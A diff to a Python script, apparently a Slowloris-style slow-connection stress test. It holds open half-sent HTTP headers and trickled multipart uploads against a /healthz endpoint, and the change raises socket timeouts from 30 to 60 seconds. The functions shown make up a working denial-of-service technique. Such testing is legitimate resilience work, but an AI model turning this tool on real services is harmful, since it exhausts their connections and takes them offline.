@@ -36,13 +36,13 @@ def attack(host: str, port: int, *, headers: int, uploads: int, key: str = "", p
 
 
 def _half(host: str, port: int) -> socket.socket:
-    connection = socket.create_connection((host, port), timeout=30)
+    connection = socket.create_connection((host, port), timeout=60)
     connection.sendall(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")
     return connection
 
 
 def _upload(host: str, port: int, key: str) -> socket.socket:
-    connection = socket.create_connection((host, port), timeout=30)
+    connection = socket.create_connection((host, port), timeout=60)
     said = f"Authorization: Bearer {key}\r\n" if key else ""
     begin = b'--b\r\nContent-Disposition: form-data; name="file"; filename="net.pth"\r\n\r\n'
     connection.sendall(
@@ -60,7 +60,7 @@ def _trickle(connections: list[socket.socket], over: threading.Event, pause: flo
                 connection.sendall(b"x" * PIECE)
 
 
-def is_well(host: str, port: int, timeout: float = 30) -> bool:
+def is_well(host: str, port: int, timeout: float = 60) -> bool:
     connection = HTTPConnection(host, port, timeout=timeout)
     try:
         connection.request("GET", "/healthz", headers={"Host": "localhost"})
